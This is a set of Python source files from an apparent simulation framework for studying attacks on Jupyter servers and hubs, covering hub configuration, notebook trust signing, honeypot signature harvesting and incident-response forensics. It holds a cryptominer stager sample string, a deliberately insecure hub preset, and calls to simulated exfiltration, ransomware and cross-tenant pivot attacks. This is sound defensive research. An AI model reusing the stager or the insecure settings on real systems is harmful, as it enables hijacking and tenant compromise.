from repro.hub.proxy import ReverseProxy
from repro.hub.spawner import Spawner
from repro.simnet.loop import EventLoop


@dataclass(frozen=True)
class CullRecord:
    """One reclaimed server."""

    ts: float
    username: str
    idle_seconds: float


class IdleCuller:
    """Periodically stops servers whose route has gone quiet."""

    def __init__(self, loop: EventLoop, spawner: Spawner, proxy: ReverseProxy,
                 *, interval: float = 60.0, idle_timeout: float = 600.0,
                 enabled: bool = True,
                 proxies: Optional[Sequence[ReverseProxy]] = None,
                 telemetry=None):
        from repro.telemetry import Telemetry

        self.loop = loop
        self.spawner = spawner
        self.proxy = proxy
        #: All front doors carrying routes for this fleet.  A sharded hub
        #: has one proxy per shard; a server is idle only if *every*
        #: shard's route for it has gone quiet.
        self.proxies: List[ReverseProxy] = list(proxies) if proxies else [proxy]
        self.interval = interval
        self.idle_timeout = idle_timeout
        self.enabled = enabled
        self.culled: List[CullRecord] = []
        self.sweeps = 0
        self.telemetry = telemetry if telemetry is not None else Telemetry.disabled()
        self._tele_on = self.telemetry.enabled
        if self._tele_on:
            reg = self.telemetry.registry
            culled_c = reg.counter("culler_culled_total",
                                   "Idle servers reclaimed by the culler")
            sweeps_c = reg.counter("culler_sweeps_total", "Culling passes run")

            def collect() -> None:
                culled_c.set(len(self.culled))
                sweeps_c.set(self.sweeps)

            reg.register_collector(collect)
        if enabled:
            self._schedule()

    def enable(self, *, idle_timeout: Optional[float] = None,
               interval: Optional[float] = None) -> None:
        """Turn culling on mid-run (the remediation path)."""
        if idle_timeout is not None:
            self.idle_timeout = idle_timeout
        if interval is not None:
            self.interval = interval
        if not self.enabled:
            self.enabled = True
            self._schedule()

    def _schedule(self) -> None:
        self.loop.call_later(self.interval, self._tick)

    def _tick(self) -> None:
        self.sweep()
        self._schedule()

    def last_activity(self, username: str) -> Optional[float]:
        """Latest traffic timestamp for a user's server across every
        front door (route counters, falling back to the spawn time for
        never-visited servers)."""
        spawned = self.spawner.active.get(username)
        if spawned is None:
            return None
        latest = spawned.started_at
        for proxy in self.proxies:
            route = proxy.routes.get(username)
            if route is not None:
                latest = max(latest, route.last_activity)
        return latest

    def sweep(self) -> List[CullRecord]:
        """One culling pass; returns the servers reclaimed this sweep."""
        self.sweeps += 1
        now = self.loop.clock.now()
        reclaimed: List[CullRecord] = []
        for username in self.spawner.running():
            last = self.last_activity(username)
            if last is None:
                continue
            idle = now - last
            if idle >= self.idle_timeout:
                self.spawner.stop(username)
                record = CullRecord(ts=now, username=username, idle_seconds=idle)
                self.culled.append(record)
                reclaimed.append(record)
                if self._tele_on:
                    self.telemetry.timeline.record(
                        now, "culler.culled", source=username,
                        idle_seconds=idle)
        return reclaimed
