"""Hub identity: users, tokens, and the knobs that go wrong.

A multi-tenant hub concentrates exactly the misconfiguration avenues the
paper catalogues for single servers, one layer up: open signup turns the
front door into an account factory, a shared API token collapses tenant
isolation (one compromised laptop pivots to every server), and a
disabled proxy-auth check makes the reverse proxy a transparent relay.
:class:`HubConfig` models those knobs; :mod:`repro.misconfig.hubchecks`
audits them; :class:`~repro.attacks.hubpivot.CrossTenantPivotAttack`
exploits them.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Tuple

from repro.util.clock import Clock, SimClock
from repro.util.errors import ReproError
from repro.util.ids import new_token
from repro.util.rng import DeterministicRNG


class HubUserError(ReproError):
    """Signup/lookup failures; carries an HTTP-ish status."""

    def __init__(self, message: str, *, status: int = 400):
        super().__init__(message)
        self.status = status


@dataclass
class HubConfig:
    """Deployment configuration for one hub (proxy + spawner + culler).

    Field names mirror JupyterHub's traitlets where one exists, so the
    hub-level misconfiguration checks read like real hardening guidance.
    """

    hub_name: str = "hub"
    ip: str = "0.0.0.0"
    port: int = 8000
    # identity
    signup_mode: str = "invite"      # "invite" | "open" — open signup is the footgun
    admin_users: Tuple[str, ...] = ()
    api_token: str = field(default_factory=new_token)  # hub service token
    per_user_tokens: bool = True     # False = every tenant shares api_token
    proxy_auth_required: bool = True  # False = proxy forwards without checking
    # spawner limits
    max_servers: int = 512           # 0 = unlimited (a DoS invitation)
    spawn_rate_per_minute: int = 0   # 0 = unlimited
    # proxy relay limits: cap on any one connection's parse buffer, so a
    # slow or withholding peer (headers that never finish, a body that
    # never arrives) cannot grow proxy memory without bound.  The proxy
    # must buffer a whole request before relaying, so this also bounds
    # request size — the default leaves room for large notebook uploads.
    proxy_buffer_limit: int = 32 << 20  # bytes; 0 = unlimited (unsafe)
    # culling
    culling_enabled: bool = True
    cull_idle_timeout: float = 600.0
    cull_interval: float = 60.0

    def is_admin(self, username: str) -> bool:
        return username in self.admin_users


def insecure_hub_config() -> HubConfig:
    """The hub-level analogue of ``insecure_demo_config``: open signup,
    one short token shared by every tenant, proxy auth off, no culling,
    no spawn ceiling."""
    return HubConfig(
        signup_mode="open",
        api_token="hub",
        per_user_tokens=False,
        proxy_auth_required=False,
        culling_enabled=False,
        max_servers=0,
        spawn_rate_per_minute=0,
    )


@dataclass
class HubUser:
    """One hub account."""

    name: str
    token: str
    admin: bool = False
    created: float = 0.0


class HubUserDirectory:
    """Accounts and token authentication for one hub.

    Token generation is deterministic when an RNG is supplied (keeping
    benchmark traffic byte-reproducible) and cryptographically strong
    otherwise.
    """

    def __init__(self, config: HubConfig, clock: Optional[Clock] = None,
                 *, rng: Optional[DeterministicRNG] = None):
        self.config = config
        self.clock = clock or SimClock()
        self.rng = rng
        self.users: Dict[str, HubUser] = {}
        self._by_token: Dict[str, HubUser] = {}
        self.signup_rejections = 0
        self.revocations = 0
        #: Wiring hooks called with (name, new_token) after a rotation —
        #: the builder syncs the tenant's spawned backend here, so a
        #: revocation never locks the legitimate owner out of their own
        #: server (the proxy swaps the directory's current token in).
        self.on_revoke: List[Callable[[str, str], None]] = []

    # -- account lifecycle ---------------------------------------------------
    def _fresh_token(self) -> str:
        """A new account-unique token (deterministic under an RNG)."""
        if self.rng is not None:
            return self.rng.randbytes(16).hex()
        return new_token()

    def _new_token(self) -> str:
        if not self.config.per_user_tokens:
            return self.config.api_token
        return self._fresh_token()

    def create(self, name: str, *, admin: bool = False) -> HubUser:
        """Administrative account creation (bypasses signup_mode)."""
        if not name or "/" in name or name.startswith("."):
            raise HubUserError(f"invalid username {name!r}", status=400)
        if name in self.users:
            raise HubUserError(f"user {name!r} already exists", status=409)
        user = HubUser(name=name, token=self._new_token(),
                       admin=admin or self.config.is_admin(name),
                       created=self.clock.now())
        self.users[name] = user
        self._by_token.setdefault(user.token, user)
        return user

    def signup(self, name: str) -> HubUser:
        """Self-service signup — only allowed when the hub is misconfigured
        (or deliberately) open."""
        if self.config.signup_mode != "open":
            self.signup_rejections += 1
            raise HubUserError("signup is invite-only", status=403)
        return self.create(name)

    def revoke_token(self, name: str) -> Optional[str]:
        """Rotate one account's token (the containment path for a stolen
        credential).  The old token stops authenticating immediately;
        the fresh one is always account-unique — on a shared-token hub
        this is also the remediation that peels the account off the
        shared credential.  Returns the new token, or ``None`` for an
        unknown account."""
        user = self.users.get(name)
        if user is None:
            return None
        old = user.token
        if self._by_token.get(old) is user:
            del self._by_token[old]
        # Always a fresh unique token (never _new_token: on a shared-
        # token hub that would hand the "rotated" account the same
        # compromised credential back).
        user.token = self._fresh_token()
        self._by_token[user.token] = user
        self.revocations += 1
        for hook in self.on_revoke:
            hook(name, user.token)
        return user.token

    def remove(self, name: str) -> bool:
        user = self.users.pop(name, None)
        if user is not None and self._by_token.get(user.token) is user:
            del self._by_token[user.token]
        return user is not None

    def get(self, name: str) -> Optional[HubUser]:
        return self.users.get(name)

    # -- authentication ------------------------------------------------------
    def authenticate(self, token: str) -> Tuple[Optional[HubUser], bool]:
        """Resolve a token to ``(user, is_hub_token)``.

        The hub API token authenticates as the hub itself (admin-
        equivalent).  When ``per_user_tokens`` is off every user shares
        that token — the pivot the cross-tenant attack exploits.
        """
        if not token:
            return None, False
        if token == self.config.api_token:
            return None, True
        user = self._by_token.get(token)
        return (user, False) if user is not None else (None, False)

    def names(self) -> List[str]:
        return sorted(self.users)

    def __len__(self) -> int:
        return len(self.users)
