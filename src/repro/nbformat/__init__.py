"""Notebook document model (nbformat v4 subset) and the trust store.

Jupyter notebooks are JSON documents; each cell is a JSON object.  The
attack surface the paper highlights — "untrusted cells" — exists because
output HTML/JS executes in the reader's browser unless the notebook is
*trusted*.  Jupyter implements trust as an HMAC signature over the
notebook stored in a local database; :class:`NotebookSignatureStore`
reproduces that mechanism so the tampering experiments are faithful.
"""

from repro.nbformat.model import (
    CodeCell,
    MarkdownCell,
    Notebook,
    RawCell,
    output_display_data,
    output_error,
    output_execute_result,
    output_stream,
)
from repro.nbformat.validate import validate_notebook
from repro.nbformat.trust import NotebookSignatureStore

__all__ = [
    "Notebook",
    "CodeCell",
    "MarkdownCell",
    "RawCell",
    "output_stream",
    "output_execute_result",
    "output_display_data",
    "output_error",
    "validate_notebook",
    "NotebookSignatureStore",
]
