"""Structural validation of notebook documents.

A light-weight stand-in for nbformat's JSON-schema validation: enough to
reject the malformed/hostile documents that the misconfiguration and
attack experiments feed the server (cells of unknown type, outputs with
missing discriminators, wrong top-level types).  Returns a list of
human-readable problems; :func:`validate_notebook` with ``strict=True``
raises :class:`~repro.util.errors.ValidationError` on the first problem.
"""

from __future__ import annotations

from typing import Any, Dict, List

from repro.util.errors import ValidationError

_CELL_TYPES = {"code", "markdown", "raw"}
_OUTPUT_TYPES = {"stream", "execute_result", "display_data", "error"}


def _check_output(out: Any, where: str, problems: List[str]) -> None:
    if not isinstance(out, dict):
        problems.append(f"{where}: output is not an object")
        return
    ot = out.get("output_type")
    if ot not in _OUTPUT_TYPES:
        problems.append(f"{where}: unknown output_type {ot!r}")
        return
    if ot == "stream":
        if out.get("name") not in ("stdout", "stderr"):
            problems.append(f"{where}: stream output name must be stdout/stderr")
        if not isinstance(out.get("text", ""), (str, list)):
            problems.append(f"{where}: stream text must be string or list")
    elif ot in ("execute_result", "display_data"):
        if not isinstance(out.get("data", {}), dict):
            problems.append(f"{where}: {ot} data must be a MIME bundle object")
    elif ot == "error":
        for key in ("ename", "evalue", "traceback"):
            if key not in out:
                problems.append(f"{where}: error output missing {key!r}")


def validate_notebook(doc: Dict[str, Any], *, strict: bool = False) -> List[str]:
    """Validate a notebook dict; return a list of problems (empty = valid)."""
    problems: List[str] = []
    if not isinstance(doc, dict):
        problems = ["document is not a JSON object"]
    else:
        if not isinstance(doc.get("cells"), list):
            problems.append("missing or non-list 'cells'")
        if not isinstance(doc.get("nbformat", 4), int):
            problems.append("'nbformat' must be an integer")
        elif doc.get("nbformat", 4) != 4:
            problems.append(f"unsupported nbformat major version {doc.get('nbformat')}")
        if not isinstance(doc.get("metadata", {}), dict):
            problems.append("'metadata' must be an object")
        for i, cell in enumerate(doc.get("cells") or []):
            where = f"cells[{i}]"
            if not isinstance(cell, dict):
                problems.append(f"{where}: cell is not an object")
                continue
            ct = cell.get("cell_type")
            if ct not in _CELL_TYPES:
                problems.append(f"{where}: unknown cell_type {ct!r}")
                continue
            if not isinstance(cell.get("source", ""), (str, list)):
                problems.append(f"{where}: source must be string or list of strings")
            if ct == "code":
                ec = cell.get("execution_count")
                if ec is not None and not isinstance(ec, int):
                    problems.append(f"{where}: execution_count must be int or null")
                outputs = cell.get("outputs", [])
                if not isinstance(outputs, list):
                    problems.append(f"{where}: outputs must be a list")
                else:
                    for j, out in enumerate(outputs):
                        _check_output(out, f"{where}.outputs[{j}]", problems)
            else:
                if "outputs" in cell:
                    problems.append(f"{where}: {ct} cell must not have outputs")
    if strict and problems:
        raise ValidationError(problems[0])
    return problems
