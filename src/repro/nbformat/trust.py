"""Notebook trust: HMAC signatures over notebook content.

Reproduces Jupyter's ``nbformat.sign.NotebookNotary`` mechanism: a
secret key signs the canonical notebook JSON; the signature database
remembers which documents the user has blessed.  Untrusted notebooks get
their rich outputs sanitized before display — the defense against the
"untrusted cells" entry in the paper's attack-interface list.

The store is bounded (LRU eviction, like the real notary's culling) so a
hostile client cannot balloon server memory by signing garbage.
"""

from __future__ import annotations

from collections import OrderedDict
from typing import Any, Dict

from repro.crypto.signing import HMACSigner
from repro.nbformat.model import Notebook

#: MIME types considered dangerous in untrusted notebooks.
UNSAFE_MIMETYPES = ("text/html", "application/javascript", "image/svg+xml")


class NotebookSignatureStore:
    """Sign, check, and remember trusted notebooks."""

    def __init__(self, key: bytes, *, max_entries: int = 1024):
        self._signer = HMACSigner(key)
        self._trusted: OrderedDict[bytes, None] = OrderedDict()
        self.max_entries = max_entries

    def compute_signature(self, nb: Notebook) -> bytes:
        """HMAC over the canonical JSON with outputs *included* —
        trusting a notebook means trusting its outputs too."""
        return self._signer.sign([nb.to_bytes()])

    def sign(self, nb: Notebook) -> bytes:
        """Mark ``nb`` trusted and return its signature."""
        sig = self.compute_signature(nb)
        self._trusted[sig] = None
        self._trusted.move_to_end(sig)
        while len(self._trusted) > self.max_entries:
            self._trusted.popitem(last=False)
        return sig

    def check(self, nb: Notebook) -> bool:
        """True if this exact document content was previously signed."""
        sig = self.compute_signature(nb)
        if sig in self._trusted:
            self._trusted.move_to_end(sig)
            return True
        return False

    def unsign(self, nb: Notebook) -> bool:
        """Remove trust; True if the notebook was trusted."""
        return self._trusted.pop(self.compute_signature(nb), False) is None

    def __len__(self) -> int:
        return len(self._trusted)


def sanitize_untrusted_outputs(nb: Notebook) -> int:
    """Strip unsafe MIME entries from every output of an untrusted notebook.

    Returns the number of MIME entries removed.  This is the display-side
    mitigation real Jupyter applies; the server calls it before handing
    an unsigned document to a client.
    """
    removed = 0
    for cell in nb.code_cells:
        for out in cell.outputs:
            data: Dict[str, Any] = out.get("data", {})
            if not isinstance(data, dict):
                continue
            for mime in list(data):
                if mime in UNSAFE_MIMETYPES:
                    del data[mime]
                    removed += 1
    return removed
