"""Notebook v4 document model.

A faithful subset of the nbformat 4.5 schema: code/markdown/raw cells,
the four output types, cell ids, execution counts, and metadata.  The
model round-trips through JSON byte-for-byte for documents it produced
itself (canonical key order), which the trust store depends on.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Any, Dict, List, Optional

from repro.util.ids import new_id

NBFORMAT_MAJOR = 4
NBFORMAT_MINOR = 5


def output_stream(name: str, text: str) -> Dict[str, Any]:
    """A ``stream`` output (stdout/stderr)."""
    return {"output_type": "stream", "name": name, "text": text}


def output_execute_result(data: Dict[str, Any], execution_count: Optional[int]) -> Dict[str, Any]:
    """An ``execute_result`` output with a MIME bundle."""
    return {
        "output_type": "execute_result",
        "data": data,
        "metadata": {},
        "execution_count": execution_count,
    }


def output_display_data(data: Dict[str, Any]) -> Dict[str, Any]:
    """A ``display_data`` output (rich display without an Out[n] prompt)."""
    return {"output_type": "display_data", "data": data, "metadata": {}}


def output_error(ename: str, evalue: str, traceback: List[str]) -> Dict[str, Any]:
    """An ``error`` output."""
    return {"output_type": "error", "ename": ename, "evalue": evalue, "traceback": traceback}


@dataclass
class CodeCell:
    """An executable cell."""

    source: str = ""
    outputs: List[Dict[str, Any]] = field(default_factory=list)
    execution_count: Optional[int] = None
    metadata: Dict[str, Any] = field(default_factory=dict)
    cell_id: str = field(default_factory=lambda: new_id()[:8])

    cell_type = "code"

    def to_dict(self) -> Dict[str, Any]:
        return {
            "cell_type": "code",
            "id": self.cell_id,
            "metadata": self.metadata,
            "source": self.source,
            "execution_count": self.execution_count,
            "outputs": self.outputs,
        }


@dataclass
class MarkdownCell:
    """A prose cell."""

    source: str = ""
    metadata: Dict[str, Any] = field(default_factory=dict)
    cell_id: str = field(default_factory=lambda: new_id()[:8])

    cell_type = "markdown"

    def to_dict(self) -> Dict[str, Any]:
        return {
            "cell_type": "markdown",
            "id": self.cell_id,
            "metadata": self.metadata,
            "source": self.source,
        }


@dataclass
class RawCell:
    """A raw passthrough cell."""

    source: str = ""
    metadata: Dict[str, Any] = field(default_factory=dict)
    cell_id: str = field(default_factory=lambda: new_id()[:8])

    cell_type = "raw"

    def to_dict(self) -> Dict[str, Any]:
        return {
            "cell_type": "raw",
            "id": self.cell_id,
            "metadata": self.metadata,
            "source": self.source,
        }


Cell = CodeCell | MarkdownCell | RawCell


def _cell_from_dict(d: Dict[str, Any]) -> Cell:
    ct = d.get("cell_type")
    cid = d.get("id", new_id()[:8])
    if ct == "code":
        return CodeCell(
            source=_join_source(d.get("source", "")),
            outputs=list(d.get("outputs", [])),
            execution_count=d.get("execution_count"),
            metadata=dict(d.get("metadata", {})),
            cell_id=cid,
        )
    if ct == "markdown":
        return MarkdownCell(_join_source(d.get("source", "")), dict(d.get("metadata", {})), cid)
    if ct == "raw":
        return RawCell(_join_source(d.get("source", "")), dict(d.get("metadata", {})), cid)
    raise ValueError(f"unknown cell_type {ct!r}")


def _join_source(source: Any) -> str:
    # nbformat allows source as a string or list of lines.
    if isinstance(source, list):
        return "".join(source)
    return str(source)


@dataclass
class Notebook:
    """An in-memory notebook document."""

    cells: List[Cell] = field(default_factory=list)
    metadata: Dict[str, Any] = field(default_factory=dict)
    nbformat: int = NBFORMAT_MAJOR
    nbformat_minor: int = NBFORMAT_MINOR

    @classmethod
    def new(cls, *, kernel_name: str = "python3", language: str = "python") -> "Notebook":
        """A fresh notebook with standard kernelspec metadata."""
        return cls(
            metadata={
                "kernelspec": {"name": kernel_name, "display_name": kernel_name, "language": language},
                "language_info": {"name": language},
            }
        )

    # -- cell manipulation --------------------------------------------------
    def add_code(self, source: str, **kw) -> CodeCell:
        cell = CodeCell(source=source, **kw)
        self.cells.append(cell)
        return cell

    def add_markdown(self, source: str, **kw) -> MarkdownCell:
        cell = MarkdownCell(source=source, **kw)
        self.cells.append(cell)
        return cell

    @property
    def code_cells(self) -> List[CodeCell]:
        return [c for c in self.cells if isinstance(c, CodeCell)]

    def clear_outputs(self) -> None:
        for c in self.code_cells:
            c.outputs = []
            c.execution_count = None

    # -- serialization ------------------------------------------------------
    def to_dict(self) -> Dict[str, Any]:
        return {
            "cells": [c.to_dict() for c in self.cells],
            "metadata": self.metadata,
            "nbformat": self.nbformat,
            "nbformat_minor": self.nbformat_minor,
        }

    def to_json(self, *, indent: int | None = 1) -> str:
        """Canonical JSON (sorted keys) so signing is stable."""
        return json.dumps(self.to_dict(), indent=indent, sort_keys=True, ensure_ascii=False)

    def to_bytes(self) -> bytes:
        return self.to_json().encode("utf-8")

    @classmethod
    def from_dict(cls, d: Dict[str, Any]) -> "Notebook":
        if "cells" not in d:
            raise ValueError("not a v4 notebook: missing 'cells'")
        return cls(
            cells=[_cell_from_dict(c) for c in d["cells"]],
            metadata=dict(d.get("metadata", {})),
            nbformat=int(d.get("nbformat", NBFORMAT_MAJOR)),
            nbformat_minor=int(d.get("nbformat_minor", NBFORMAT_MINOR)),
        )

    @classmethod
    def from_json(cls, text: str | bytes) -> "Notebook":
        return cls.from_dict(json.loads(text))

    # -- content summaries used by the audit layer ---------------------------
    def all_source(self) -> str:
        """Concatenated source of all code cells (audit feature input)."""
        return "\n".join(c.source for c in self.code_cells)

    def total_output_bytes(self) -> int:
        total = 0
        for c in self.code_cells:
            for out in c.outputs:
                total += len(json.dumps(out))
        return total
