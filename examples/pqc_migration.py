#!/usr/bin/env python
"""Post-quantum migration of Jupyter's message signing (paper §IV.B).

Swaps the kernel protocol's HMAC-SHA256 signer for hash-based signature
schemes through the crypto-agility registry, prices the migration
(signature bytes, sign/verify cost), and quantifies harvest-now-
decrypt-later exposure as a function of when a quantum computer arrives.

Run with:  python examples/pqc_migration.py
"""

import time

from repro.crypto import HNDLModel, TrafficRecord, get_signer
from repro.messaging import Session


def price_schemes() -> None:
    print(f"{'scheme':>12s} {'sig bytes':>9s} {'sign ms':>8s} {'verify ms':>9s} "
          f"{'quantum-safe':>12s} {'uses':>9s}")
    for scheme in ("hmac-sha256", "hmac-sha3-256", "lamport", "wots", "merkle"):
        signer = get_signer(scheme, b"\x42" * 32)
        sender = Session(signer=signer)
        msg = sender.execute_request("print('hello HPC')")
        segments = msg.json_segments()
        t0 = time.perf_counter()
        sig = signer.sign(segments)
        sign_ms = (time.perf_counter() - t0) * 1000
        t0 = time.perf_counter()
        assert signer.verify(segments, sig)
        verify_ms = (time.perf_counter() - t0) * 1000
        uses = {"lamport": "1", "wots": "1", "merkle": "2^h"}.get(scheme, "unlimited")
        print(f"{scheme:>12s} {len(sig):9d} {sign_ms:8.2f} {verify_ms:9.2f} "
              f"{str(signer.quantum_resistant):>12s} {uses:>9s}")


def hndl_exposure() -> None:
    """A decade of captured traffic, three migration strategies."""
    print("\nharvest-now-decrypt-later exposure (fraction of records exposed):")
    print(f"{'CRQC year':>10s} {'never migrate':>14s} {'migrate 2026':>13s} "
          f"{'migrate 2030':>13s}")
    for crqc_year in (2028, 2032, 2036, 2040):
        row = [f"{crqc_year:>10d}"]
        for migrate_year in (9999, 2026, 2030):
            model = HNDLModel()
            for capture_year in range(2024, 2035):
                scheme = "merkle" if capture_year >= migrate_year else "hmac-sha256"
                # Research data stays sensitive ~8 years (unpublished work,
                # embargoed collaborations, personal data).
                model.add(TrafficRecord(capture_year, 8.0, scheme, size_bytes=10**9))
            row.append(f"{model.exposed_fraction(crqc_year):14.2f}"
                       if migrate_year == 9999 else
                       f"{model.exposed_fraction(crqc_year):13.2f}")
        print(" ".join(row))
    print("\nreading: migrating early zeroes out post-migration capture; the "
          "pre-migration tail remains exposed until it ages out — the paper's "
          "argument for starting the migration now.")


def end_to_end_swap() -> None:
    """The whole kernel protocol running under a PQ signer."""
    signer_out = get_signer("wots", b"\x07" * 32)
    signer_in = get_signer("wots", b"\x07" * 32)
    sender = Session(signer=signer_out)
    receiver = Session(signer=signer_in, check_replay=False)
    msg = sender.execute_request("result = 6 * 7")
    wire = sender.serialize(msg)
    got = receiver.unserialize(wire)
    print(f"\nend-to-end under WOTS: msg_type={got.msg_type!r}, "
          f"code={got.content['code']!r}, wire signature "
          f"{len(wire[1])} bytes (vs 64 for HMAC hex)")


if __name__ == "__main__":
    price_schemes()
    hndl_exposure()
    end_to_end_swap()
