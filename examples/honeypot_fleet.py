#!/usr/bin/env python
"""Edge honeypots harvesting signatures before production gets hit.

Reproduces the operational workflow from the paper's §IV.A: decoys at
the network edge record a miner campaign, the fleet harvests content
signatures, publishes them as threat-intel indicators, and the
production monitor — subscribed to the feed — recognizes the *same
campaign* the moment it arrives, with positive lead time.

Run with:  python examples/honeypot_fleet.py
"""

from repro.attacks import CryptominingAttack
from repro.attacks.scenario import build_scenario
from repro.honeypot import HoneypotFleet
from repro.honeypot.decoy import InteractionRecord

# The stager observed at the edge uses the same stratum handshake the
# campaign later replays against production.
MINER_STAGER = 's.send(\'{"id":1,"method":"mining.subscribe","params":["xmrig/6.21"]}\')'


def main() -> None:
    scenario = build_scenario(seed=7)

    # 1. Deploy two decoys at the campus edge, wired to the shared feed.
    fleet = HoneypotFleet(scenario.network, harvest_interval=60.0)
    edge1 = fleet.deploy("edge-hp-1", "172.16.0.5")
    edge2 = fleet.deploy("edge-hp-2", "172.16.0.6", interaction="low")
    # Production's signature engine subscribes to the intel feed.
    fleet.feed.subscribe_engine(scenario.monitor.signatures)
    baseline_rules = set(scenario.monitor.signatures.ids())

    # 2. T+10s: the campaign hits the edge first (attackers scan edges too).
    scenario.run(10.0)
    edge1.records.append(InteractionRecord(
        ts=scenario.clock.now(), honeypot="edge-hp-1",
        source_ip=scenario.attacker_host.ip, kind="cell", content=MINER_STAGER))
    print(f"t={scenario.clock.now():6.0f}  campaign observed at edge honeypot")

    # 3. T+60s: scheduled harvest turns the observation into signatures.
    fleet.schedule_harvesting(horizon=120.0)
    scenario.run(120.0)
    new_rules = set(scenario.monitor.signatures.ids()) - baseline_rules
    print(f"t={scenario.clock.now():6.0f}  harvested + pushed to production: {sorted(new_rules)}")

    # 4. T+600s: the same campaign reaches the production server.
    scenario.run(470.0)
    production_hit = scenario.clock.now()
    result = CryptominingAttack(rounds=5, hashes_per_round=200).run(scenario)
    print(f"t={production_hit:6.0f}  campaign hits production: {result.narrative}")

    # 5. Lead time: how long production had the signature before impact.
    lead = fleet.lead_time("mining", production_hit)
    print(f"\nsignature lead time: {lead:.0f} simulated seconds")
    intel_hits = [n for n in scenario.monitor.logs.notices
                  if n.detail.get("source", "").startswith("intel:")]
    builtin_hits = [n for n in scenario.monitor.logs.notices
                    if n.name.startswith("SIG-") and not n.detail.get("source", "").startswith("intel:")]
    print(f"production notices from harvested intel: {len(intel_hits)}")
    print(f"production notices from builtin rules:   {len(builtin_hits)}")
    print(f"total honeypot interactions recorded:    {fleet.total_interactions()}")


if __name__ == "__main__":
    main()
