#!/usr/bin/env python
"""Incident response with the kernel auditor's provenance graph.

A compound campaign hits the deployment (exfiltration, then ransomware
through the same stolen session).  The analyst's questions — who did it,
what did they take, what did they destroy, can we recover — are answered
entirely from the audit plane's provenance graph and the server's
checkpoints, the forensic workflow the paper's kernel-auditing proposal
enables.

Run with:  python examples/incident_response.py
"""

from repro.attacks import ExfiltrationAttack, RansomwareAttack
from repro.attacks.scenario import build_scenario
from repro.workload import ScientistWorkload


def main() -> None:
    scenario = build_scenario(seed=2025)
    ScientistWorkload(scenario, username="alice").run_session(cells=4)

    # The campaign: steal first, then extort (checkpoints left behind —
    # this operator was sloppy, which is what makes recovery possible).
    ExfiltrationAttack().run(scenario)
    RansomwareAttack(via="kernel", destroy_checkpoints=False).run(scenario)
    scenario.run(10.0)

    print("=== ALERT TRIAGE ===")
    for n in scenario.monitor.logs.notices:
        if n.severity in ("high", "critical"):
            print(f"  t={n.ts:8.1f} {n.severity:9s} {n.name:28s} src={n.src}")

    # Q1: which principal ran the malicious executions?
    print("\n=== Q1: who? ===")
    for kid, auditor in scenario.auditors.items():
        for record in auditor.records_with_verdicts():
            policies = ", ".join(v.policy for v in record.verdicts)
            print(f"  kernel={kid[:12]} exec#{record.execution_id} "
                  f"user={record.username!r} -> {policies}")

    # Q2: what left the building?
    print("\n=== Q2: what was exfiltrated? ===")
    sink_ip = scenario.exfil_sink.host.ip
    for auditor in scenario.auditors.values():
        lineage = auditor.provenance.exfil_lineage(sink_ip, 443)
        if lineage:
            sent = auditor.provenance.bytes_sent_to(sink_ip, 443)
            print(f"  {sent} bytes to {sink_ip}:443, plausible sources:")
            for path in lineage:
                print(f"    - {path}")

    # Q3: what did the ransomware touch?
    print("\n=== Q3: damage assessment ===")
    encrypted = [p for p in scenario.server.fs.walk("home") if p.endswith(".locked")]
    print(f"  {len(encrypted)} files encrypted (.locked)")
    victim = "home/experiments/run0.ipynb"
    for auditor in scenario.auditors.values():
        history = auditor.provenance.file_history(victim)
        if history:
            print(f"  history of {victim}:")
            for event in history:
                print(f"    t={event['ts']:8.1f} {event['relation']:10s} {event['exec']}")

    # Q4: recovery.
    print("\n=== Q4: recovery ===")
    restored = 0
    for path in list(scenario.server.fs.walk("home")):
        if path.endswith(".locked"):
            original = path[len("home/"):-len(".locked")]
            checkpoints = scenario.server.contents.list_checkpoints(original)
            if checkpoints:
                # Re-materialize the original from its checkpoint.
                cp = scenario.server.contents._checkpoint_path(original, checkpoints[0]["id"])
                scenario.server.fs.write("home/" + original, scenario.server.fs.read(cp))
                restored += 1
    print(f"  restored {restored} files from checkpoints "
          f"(the ransomware forgot to destroy them)")
    model = scenario.server.contents.get("experiments/run0.ipynb")
    print(f"  spot check: experiments/run0.ipynb is a valid "
          f"{model['type']} again ({model['size'] if 'size' in model else '?'} view)")


if __name__ == "__main__":
    main()
