#!/usr/bin/env python
"""Topology tour: one spec registry, four worlds, one attack suite.

Builds every registered ``WorldSpec`` preset with the same
``WorldBuilder``, runs the same stolen-token attack against each, and
shows the topology-specific defenses: the sharded hub's merged fleet
monitor view and the honeypot hub's burned-source intel.

Run with:  PYTHONPATH=src python examples/topology_tour.py
"""

from repro.attacks import CrossTenantPivotAttack, StolenTokenAttack
from repro.hub import insecure_hub_config
from repro.topology import WorldBuilder, list_presets, spec_preset

SMALL = {
    "single-server": {},
    "hub": {"n_tenants": 2},
    "sharded-hub": {"n_shards": 3, "n_tenants": 6},
    "honeypot-hub": {"n_tenants": 2},
    "sharded-honeypot-hub": {"n_shards": 3, "n_tenants": 6},
    "sharded-hub-geo": {"n_tenants": 6},
    "defended-hub": {"n_tenants": 2},
    "defended-sharded-hub": {"n_shards": 3, "n_tenants": 6},
    "defended-honeypot-hub": {"n_tenants": 2},
}


def main() -> None:
    builder = WorldBuilder()

    # 1. Same attack, every topology: the facades make worlds fungible.
    print("=== one attack across every registered topology ===")
    for name in list_presets():
        scenario = builder.build(spec_preset(name, seed=42,
                                             **SMALL.get(name, {})))
        result = StolenTokenAttack().run(scenario)
        scenario.run(10.0)
        notices = sorted({n.name for n in scenario.monitor.logs.notices})
        print(f"{name:<14} success={result.success}  "
              f"notices={', '.join(notices) or '(none)'}")

    # 2. The sharded hub: three front doors, one merged monitor view.
    print("\n=== sharded hub: consistent-hash routing, merged view ===")
    sharded = builder.build(spec_preset(
        "sharded-hub", seed=42, n_shards=3, n_tenants=6,
        hub_config=insecure_hub_config()))
    for tenant, shard in sorted(sharded.shard_assignment().items()):
        print(f"  {tenant} -> {shard}")
    CrossTenantPivotAttack().run(sharded)
    sharded.run(10.0)
    print(f"  merged fleet notices: "
          f"{sorted({n.name for n in sharded.monitor.logs.notices})}")
    for shard in sharded.shards:
        print(f"  {shard.name}: {shard.proxy.stats.routed_total} routed, "
              f"{len(shard.tap.segments)} segments on its tap")

    # 3. The honeypot hub: the pivot burns itself on decoy tenants.
    print("\n=== honeypot hub: decoy tenants absorb the sweep ===")
    hp = builder.build(spec_preset("honeypot-hub", seed=42, n_tenants=2))
    result = CrossTenantPivotAttack().run(hp)
    ip = hp.attacker_host.ip
    print(f"  pivot: {result.narrative}")
